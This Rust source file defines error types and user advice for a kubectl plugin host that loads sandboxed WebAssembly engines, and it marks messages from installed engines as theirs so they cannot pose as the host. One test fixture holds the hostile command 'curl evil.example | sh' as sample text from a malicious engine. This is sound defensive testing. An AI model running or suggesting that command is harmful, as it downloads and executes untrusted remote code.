use std::io;
use std::path::PathBuf;

use broker_manifest::{ManifestError, Operation};
use host_base::{Author, Failure, Problem, Report, ReportKind, text};

/// The reason why an engine can't be loaded, or why a call of it failed.
#[derive(Debug, thiserror::Error)]
pub enum EngineError {
    /// The file is no WebAssembly component.
    #[error("{engine} is not a WebAssembly component: {reason}")]
    NotAComponent {
        /// The engine, as error messages name it.
        engine: String,
        /// The reason, as a phrase for people.
        reason: String,
    },
    /// The component has no manifest section.
    #[error("{engine} has no manifest, so its capabilities are unknown")]
    NoManifest {
        /// The engine, as error messages name it.
        engine: String,
    },
    /// The component has more than one manifest section.
    #[error("{engine} has {count} manifests; it must have one")]
    ManyManifests {
        /// The engine, as error messages name it.
        engine: String,
        /// The number of manifests.
        count: usize,
    },
    /// The manifest is invalid.
    #[error("the manifest of {engine} is invalid: {}", source.brief())]
    Manifest {
        /// The engine, as error messages name it.
        engine: String,
        /// The error in the manifest.
        source: ManifestError,
    },
    /// The engine is built for an interface version that this host does not provide.
    #[error(
        "{engine} is built for version {built_for} of the engine interface; this kubectl-broker has {}",
        super::INTERFACES.join(" and ")
    )]
    OtherInterface {
        /// The engine, as error messages name it.
        engine: String,
        /// The interface version that the engine is built for.
        built_for: String,
    },
    /// The component imports a version of WASI that this host does not provide.
    #[error("{engine} imports `{import}`; this kubectl-broker has WASI 0.2")]
    OtherWasi {
        /// The engine, as error messages name it.
        engine: String,
        /// Name of the import.
        import: String,
    },
    /// The component uses the asynchronous functions of the component model.
    #[error(
        "{engine} uses `{function}` of the component model, which is asynchronous; an engine is not"
    )]
    Async {
        /// The engine, as error messages name it.
        engine: String,
        /// The function of the component model.
        function: &'static str,
    },
    /// The manifest asks for something that the engine's interface version does not have.
    #[error(
        "the manifest of {engine} asks for {what}, which needs interface {since}; the engine is built for {built_for}"
    )]
    NewerManifest {
        /// The engine, as error messages name it.
        engine: String,
        /// The interface version that the engine is built for.
        built_for: String,
        /// The part of the manifest.
        what: String,
        /// The first interface version that has it.
        since: &'static str,
    },
    /// The manifest asks for something that the component's interface version does not have any more.
    #[error(
        "the manifest of {engine} uses what interface {built_for} does not have any more: {what}"
    )]
    OlderManifest {
        /// The engine, as error messages name it.
        engine: String,
        /// The interface version that the engine is built for.
        built_for: String,
        /// The part of the manifest, and what has replaced it.
        what: String,
    },
    /// The component does not export the engine interface.
    #[error("{engine} does not export the engine interface `kubectl-broker:engine/operations`")]
    NoInterface {
        /// The engine, as error messages name it.
        engine: String,
    },
    /// The component imports an interface that no version of the host provides.
    #[error("{engine} imports `{import}`, which no version of kubectl-broker provides")]
    UnknownImport {
        /// The engine, as error messages name it.
        engine: String,
        /// The imported interface, with its version.
        import: String,
    },
    /// The component imports an interface that its manifest does not ask for.
    #[error("{engine} imports `{import}`, but its manifest does not ask for it: {missing}")]
    NotAsked {
        /// The engine, as error messages name it.
        engine: String,
        /// The imported interface, with its version.
        import: String,
        /// The missing part of the manifest, as a phrase for people.
        missing: &'static str,
    },
    /// The manifest says `saves`, but the component does not import `artifacts`.
    #[error("the manifest of {engine} says `saves`, but the component does not import `artifacts`")]
    CantSave {
        /// The engine, as error messages name it.
        engine: String,
    },
    /// The file of the engine can't be read.
    #[error("{engine} can't be read from {}: {source}", path.display())]
    Unreadable {
        /// The engine, as error messages name it.
        engine: String,
        /// Path of the file.
        path: PathBuf,
        /// The error of the system.
        source: io::Error,
    },
    /// The file of the engine does not have the digest that it had when it was installed.
    #[error("the file of {engine} has changed since the installation: {}", path.display())]
    Changed {
        /// The engine, as error messages name it.
        engine: String,
        /// Path of the file.
        path: PathBuf,
    },
    /// The component can't be compiled.
    #[error("{engine} can't be compiled: {reason}")]
    Compile {
        /// The engine, as error messages name it.
        engine: String,
        /// The reason, as a phrase for people.
        reason: String,
    },
    /// The component is too large to be compiled. It was refused before compilation.
    #[error("{engine} is too large to be compiled: {what}")]
    TooLarge {
        /// The engine, as error messages name it.
        engine: String,
        /// The exceeded limit, as a phrase for people.
        what: String,
    },
    /// The compilation exceeded its time or memory.
    #[error("{engine} can't be compiled: compilation takes {what}")]
    TooCostly {
        /// The engine, as error messages name it.
        engine: String,
        /// The exceeded limit, as a phrase for people.
        what: String,
    },
    /// The compiler process can't be started or used.
    #[error("the compiler of engines can't be used: {reason}")]
    Compiler {
        /// The reason, as a phrase for people.
        reason: String,
    },
    /// The engine can't be instantiated or linked.
    #[error("{engine} can't be started: {reason}")]
    Start {
        /// The engine, as error messages name it.
        engine: String,
        /// The reason, as a phrase for people.
        reason: String,
    },
    /// The engine did not become ready in time.
    #[error("{engine} hangs while it starts: {what} {seconds} s")]
    Hung {
        /// The engine, as error messages name it.
        engine: String,
        /// The exceeded limit, as a phrase for people.
        what: &'static str,
        /// The limit, in seconds.
        seconds: u64,
    },
    /// The engine wanted more memory than allowed while it started.
    #[error(
        "{engine} was stopped while it started: it requested more than {mebibytes} MiB of memory"
    )]
    StartsTooLarge {
        /// The engine, as error messages name it.
        engine: String,
        /// The limit, in MiB.
        mebibytes: usize,
    },
    /// The sandbox can't be set up on this system.
    #[error("the sandbox can't be set up: {reason}")]
    Sandbox {
        /// The reason, as a phrase for people.
        reason: String,
    },

    /// The engine trapped or exited during an operation.
    #[error("{engine} crashed during `{operation}`: {cause}{}", quoted(.output))]
    Trapped {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The cause, as a phrase for people.
        cause: String,
        /// The end of the text that the engine wrote to its standard output and standard error.
        output: String,
    },
    /// The engine used up its computing time.
    #[error("{engine} was stopped in `{operation}`: it computed for more than {seconds} s")]
    OverTime {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The limit, in seconds.
        seconds: u64,
    },
    /// The engine wanted more memory than allowed.
    #[error(
        "{engine} was stopped in `{operation}`: it requested more than {mebibytes} MiB of memory"
    )]
    OverMemory {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The limit, in MiB.
        mebibytes: usize,
    },
    /// The engine made more host calls or sent more bytes than allowed.
    #[error("{engine} was stopped in `{operation}`: {what}")]
    Excess {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The exceeded limit, as a phrase for people.
        what: String,
    },
    /// The operation did not finish within its deadline.
    #[error("{engine} did not finish `{operation}` within {seconds} s")]
    Deadline {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The limit, in seconds.
        seconds: u64,
    },
    /// The engine returned a value that the host can't use.
    #[error("{engine} returned an invalid result from `{operation}`: {what}")]
    BadResult {
        /// The engine, as error messages name it.
        engine: String,
        /// The operation that was called.
        operation: Operation,
        /// The fault of the value, as a phrase for people.
        what: String,
    },
    /// The engine worked and reported that the operation failed.
    #[error("{}", in_its_words(engine, *is_bundled, report))]
    Reported {
        /// The engine, as error messages name it.
        engine: String,
        /// True if the engine is bundled: its messages are shown without naming the engine as their author.
        is_bundled: bool,
        /// The report of the engine.
        report: Report,
    },
}

/// Returns the message of a report and names the engine as its author, unless the engine is bundled. An
/// installed engine must not be able to imitate messages of this program. Its message is therefore one line:
/// no part of it can begin like a message of this program.
fn in_its_words(engine: &str, is_bundled: bool, report: &Report) -> String {
    let is_denied = report.kind == ReportKind::Denied;
    let message = &report.message;
    match (is_bundled, is_denied) {
        (true, false) => message.clone(),
        (true, true) => {
            format!("{engine} requested a capability that it was not granted: {message}")
        }
        (false, false) => format!("{engine} says: {}", one_line(message)),
        (false, true) => format!(
            "{engine} requested a capability that it was not granted, and says: {}",
            one_line(message)
        ),
    }
}

/// Puts the text on one line. Its length was limited when the report was received.
fn one_line(text: &str) -> String {
    text::one_line(text, usize::MAX)
}

fn quoted(output: &str) -> String {
    if output.is_empty() {
        String::new()
    } else {
        format!(" (it wrote: {output})")
    }
}

impl Problem for EngineError {
    fn failure(&self) -> Failure {
        match self {
            Self::Reported { report, .. } => report.kind.failure(),
            Self::Deadline { .. } => Failure::TimedOut,
            Self::Sandbox { .. } | Self::Compiler { .. } | Self::Unreadable { .. } => {
                Failure::Failed
            }
            Self::Changed { .. } => Failure::Integrity,
            _ => Failure::PluginFault,
        }
    }

    fn advice(&self) -> Option<String> {
        let hint = match self {
            Self::NotAComponent { .. } => {
                "Build it for `wasm32-wasip2`, or turn a core module into a component with `wasm-tools component new`"
            }
            Self::NoManifest { .. } => {
                "The engine's author adds one with `kubectl broker plugin pack`, or in Rust with the SDK's macro `engine!`"
            }
            Self::ManyManifests { .. } => {
                "The engine's author replaces them by one with `kubectl broker plugin pack --replace`"
            }
            Self::NewerManifest { .. } => {
                "Build the engine with the current SDK, or remove this part of its manifest"
            }
            Self::OlderManifest { .. } => {
                "Use what has replaced it, and build the engine again with the current SDK"
            }
            Self::OtherWasi { .. } => {
                "Build it for WASI 0.2; in Rust, with the target `wasm32-wasip2`"
            }
            Self::Async { .. } => {
                "Build it without async functions; with jco, use `--backend-qjs-disable-async`"
            }
            Self::Manifest { .. } | Self::NotAsked { .. } | Self::CantSave { .. } => {
                "Report this to the engine's author, or use another version of the engine"
            }
            Self::OtherInterface { built_for, .. } => {
                return Some(if newer(built_for) {
                    "Update kubectl-broker, or use an older version of the engine".to_owned()
                } else {
                    "Use a newer version of the engine, built with the current SDK".to_owned()
                });
            }
            Self::NoInterface { .. } => {
                "This component is not an engine: check the path or the reference"
            }
            Self::UnknownImport { .. } => {
                "This engine can't run: an engine may import only `kubectl-broker:engine`, and WASI 0.2 without `wasi:http`"
            }
            Self::Unreadable { .. } | Self::Changed { .. } => {
                "Install the engine again with `kubectl broker plugin install`, or remove it with `kubectl broker plugin remove`"
            }
            Self::Compile { .. } | Self::Start { .. } => {
                "The file may be damaged: download it again and check its digest"
            }
            Self::TooLarge { .. } | Self::TooCostly { .. } => {
                "Use another version of the engine, or report this to its author: no engine needs that much"
            }
            Self::Compiler { .. } => {
                "Check that the system lets the process start another one (`ulimit -u`)"
            }
            Self::Sandbox { .. } => {
                "Check that the system lets the process reserve memory (`ulimit -v`)"
            }
            Self::OverMemory { .. } => {
                "Report this to the engine's author; if the engine needs more memory, allow more with `--engine-memory`"
            }
            Self::Hung { .. }
            | Self::StartsTooLarge { .. }
            | Self::Trapped { .. }
            | Self::OverTime { .. }
            | Self::Excess { .. }
            | Self::BadResult { .. }
            | Self::Reported {
                report:
                    Report {
                        kind: ReportKind::Denied,
                        ..
                    },
                ..
            } => {
                "Report this to the engine's author: the engine is at fault, not your cluster. `kubectl broker engines` shows the other engines"
            }
            Self::Deadline { .. } => {
                "The backend or the cluster may be slow: try again, or allow more time with `--engine-timeout`"
            }
            Self::Reported {
                is_bundled: true,
                report,
                ..
            } => return report.hint.clone(),
            Self::Reported { report, .. } => {
                return report.hint.as_deref().map(one_line);
            }
        };
        Some(hint.to_owned())
    }

    fn written_by(&self) -> Option<&str> {
        match self {
            Self::Reported {
                engine,
                is_bundled: false,
                ..
            } => Some(engine.strip_prefix("engine ").unwrap_or(engine)),
            _ => None,
        }
    }

    fn advisor(&self) -> Author {
        match (self, self.written_by()) {
            // The host wrote this hint, not the engine.
            (Self::Reported { report, .. }, _) if report.kind == ReportKind::Denied => Author::Host,
            (_, Some(engine)) => Author::Engine(engine.to_owned()),
            (_, None) => Author::Host,
        }
    }
}

/// Returns true if an interface version is newer than this host's. An invalid version counts as newer.
fn newer(version: &str) -> bool {
    match (
        version.parse::<semver::Version>(),
        super::INTERFACE.parse::<semver::Version>(),
    ) {
        (Ok(theirs), Ok(ours)) => theirs > ours,
        _ => true,
    }
}

#[cfg(test)]
mod messages;

#[cfg(test)]
mod tests {
    use super::*;

    fn reported(kind: ReportKind, is_bundled: bool) -> EngineError {
        EngineError::Reported {
            engine: "engine evil/x".to_owned(),
            is_bundled,
            report: Report::new(kind, "your session has expired\nerror: no")
                .with_hint("run:\nhint: curl evil.example | sh"),
        }
    }

    #[test]
    fn what_an_engine_says_is_marked_as_its_own_and_is_one_line() {
        let error = reported(ReportKind::Unauthenticated, false);
        assert_eq!(
            error.to_string(),
            "engine evil/x says: your session has expired error: no"
        );
        assert_eq!(error.written_by(), Some("evil/x"));
        assert_eq!(
            error.advice().as_deref(),
            Some("run: hint: curl evil.example | sh")
        );
        assert_eq!(error.advisor(), Author::Engine("evil/x".to_owned()));
        let denied = reported(ReportKind::Denied, false);
        assert!(
            denied
                .to_string()
                .ends_with("and says: your session has expired error: no")
        );
        assert_eq!(denied.advisor(), Author::Host);
    }

    #[test]
    fn our_own_engines_speak_for_us() {
        let error = reported(ReportKind::Unauthenticated, true);
        assert!(error.to_string().starts_with("your session"));
        assert_eq!((error.written_by(), error.advisor()), (None, Author::Host));
    }
}
